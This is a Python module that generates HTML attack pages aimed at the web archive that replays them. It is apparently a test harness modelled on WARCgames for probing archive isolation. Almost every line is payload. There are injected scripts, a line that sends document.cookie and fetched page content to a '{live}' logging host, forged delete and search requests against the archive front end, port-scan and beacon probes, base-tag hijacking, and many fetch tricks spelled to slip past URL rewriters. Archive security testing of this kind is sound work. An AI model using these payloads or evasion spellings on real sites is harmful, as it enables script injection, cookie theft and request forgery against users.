"""Pages that attack the archive they are shown in, after WARCgames (harvard-lil/warcgames).

Each works when it is served plainly: `{live}` is a server that notes who asks it, `{front}` the
archive's own pages. Beside the script that does it best stand the ways that need no script, in
spellings that a rewriter of addresses may not recognise.
"""

from __future__ import annotations

ARTICLE = "<h1>关于防汛的通知</h1><p>全县各镇要做好防汛工作，落实值班制度。</p>"

# Ways to make a browser ask for an address without a script.
FETCHES = """
<img src="http://{live}/a1"><img src="//{live}/a2"><img src="ht&#116;p://{live}/a3">
<img src="http:\\\\{live}\\a4"><img srcset="http://{live}/a5 1x, http://{live}/a6 2x">
<img src="
http://{live}/a7"><picture><source srcset="http://{live}/a8"><img src=x></picture>
<svg width=9 height=9><image href="http://{live}/b1" width=9 height=9 /><use href="http://{live}/b2#x"/></svg>
<svg><style>@import "http://{live}/b3";</style></svg>
<style>@import url(http://{live}/c1); @import "//{live}/c2"; p {{background: u\\72l(http://{live}/c3)}}
@font-face {{font-family: x; src: url("http://{live}/c4")}} h1 {{font-family: x}}</style>
<p style="background-image: image-set('http://{live}/c5' 1x)">x</p><p style="list-style: url('//{live}/c6'); display: list-item">x</p>
<link rel=stylesheet href="http://{live}/d1"><link rel=icon href="http://{live}/d2">
<link rel=preload as=image href="http://{live}/d3"><link rel=prefetch href="http://{live}/d4">
<link rel=modulepreload href="http://{live}/d5"><link rel="dns-prefetch preconnect" href="http://{live}/">
<link rel=preconnect href="//{live}"><link rel=prerender href="http://{live}/d6"><link rel=manifest href="http://{live}/d7">
<link rel="pre&#99;onnect" href="&#104;ttp://{live}/"><link rel=preconnect href="ht
tp://{live}/"><link rel=preconnect href="http:\\{live}"><link rel=preconnect href=" //{live}">
<svg><title><link rel=preconnect href="http://{live}/g1"></title><desc><link rel=preconnect href="/\\{live}/g2"></desc></svg>
<!--><link rel=preconnect href="http://{live}/g3">--><![CDATA[><link rel=preconnect href="http://{live}/g4">]]>
<textarea></textarea/x><link rel=preconnect href="http://{live}/g5"><link/rel=preconnect/href="http://{live}/g6">
<title><link rel=preconnect href="http://{live}/g7"></title><link rel=preconnect href="http://{live}/g8" href="/x">
<link rel=preload as=image imagesrcset="http://{live}/g9 1x"><xmp></xmp x><link rel=preconnect href="//{live}/g0">
<iframe src="http://{live}/e1"></iframe><iframe src="//{live}/e2"></iframe><iframe srcdoc="&lt;img src=http://{live}/e3&gt;"></iframe>
<object data="http://{live}/e4"></object><embed src="http://{live}/e5"><video src="http://{live}/e6" poster="http://{live}/e7" autoplay></video>
<audio src="http://{live}/e8" autoplay></audio><input type=image src="http://{live}/e9"><table background="http://{live}/f1"><tr><td>x</table>
<noscript><img src="http://{live}/f2"><iframe src="http://{live}/f3"></iframe></noscript>
<math><mtext><img src="http://{live}/f4"></math><frameset><frame src="http://{live}/f5"></frameset>
"""

SAME_DOMAIN = """
<script>document.title = "pwned"; document.body.innerHTML = "pwned";
try {{ parent.document.body.innerHTML = "pwned" }} catch (e) {{}} new Image().src = "http://{live}/script"</script>
<img src=x onerror="new Image().src='http://{live}/onerror'; document.title='pwned'">
<svg onload="new Image().src='http://{live}/onload'"></svg><script src="http://{live}/evil.js"></script>
<iframe srcdoc="<script>new Image().src='http://{live}/srcdoc'; parent.document.title='pwned'</script>"></iframe>
<iframe src="javascript:new Image().src='http://{live}/javascript'"></iframe>
<object data="data:text/html,<script>new Image().src='http://{live}/data'</script>"></object>
<details open ontoggle="new Image().src='http://{live}/ontoggle'">x</details>
<style>@keyframes k {{}} b {{animation: k 1s}}</style><b onanimationstart="new Image().src='http://{live}/animation'">x</b>
<script>if (navigator.serviceWorker) navigator.serviceWorker.register("/sw.js")
new Worker("/w.js"); fetch("http://{front}/").then(r => r.text()).then(t => fetch("http://{live}/stolen?" + t.length))</script>
"""

COOKIES = """
<script>document.cookie = "session=evil; max-age=99999; path=/";
localStorage.setItem("a", "b"); new Image().src = "http://{live}/cookie?" + document.cookie</script>
<meta http-equiv="Set-Cookie" content="a=b; max-age=9999">
"""

FORGED = """
<form id=f method=post action="http://{front}/delete?forged"><input name=a value=b></form>
<form id=g method=get action="http://{live}/form"><input name=a value=b></form>
<script>fetch("http://{live}/forged"); f.submit(); g.submit()</script>
<img src="http://{front}/search?q=forged"><iframe src="http://{front}/search?q=forged"></iframe>
<link rel=stylesheet href="http://{front}/search?q=forged"><object data="//{front}/search?q=forged"></object>
<meta http-equiv=refresh content="1; url=http://{front}/search?q=forged">
<iframe src="ht&#116;p://{front}/search?q=forged"></iframe><img src="http:\\\\{front}\\search?q=forged">
"""

PORTS = """
<script>for (const way of ["http", "https"]) fetch(way + "://{live}/scan", {{mode: "no-cors"}}).catch(e => 0);
new WebSocket("ws://{live}/socket"); navigator.sendBeacon("http://{live}/beacon", "x"); new EventSource("http://{live}/events")
try {{ new RTCPeerConnection({{iceServers: [{{urls: "stun:{live}"}}]}}).createDataChannel("x") }} catch (e) {{}}</script>
"""

LIVE = """
<script>if (location.hostname != "victim.test" || location.pathname != "/x")
  document.write('<iframe src="http://{live}/switched"></iframe>')</script>
<meta http-equiv=refresh content="1;url=http://{live}/refresh"><meta http-equiv="Refresh" content="2; URL='//{live}/refresh2'">
<a href="http://{live}/" autofocus>x</a>
"""

BASE = '<base href="http://{live}/base/"><img src="a.png"><link rel=stylesheet href="b.css"><iframe src="c.html"></iframe>'

ATTACKS = {
    "same-domain script": SAME_DOMAIN,
    "cookies": COOKIES,
    "forged requests": FORGED,
    "port scan": PORTS + FETCHES,
    "live content": LIVE + FETCHES,
    "live content by base": BASE,
}


def page(attack: str, live: str, front: str) -> bytes:
    """The page of an attack, made for these addresses."""
    body = ATTACKS[attack].format(live=live, front=front)
    start = '<!DOCTYPE html><html><head><meta charset="utf-8"><title>通知</title></head><body>'
    return f"{start}{ARTICLE}{body}</body></html>".encode()
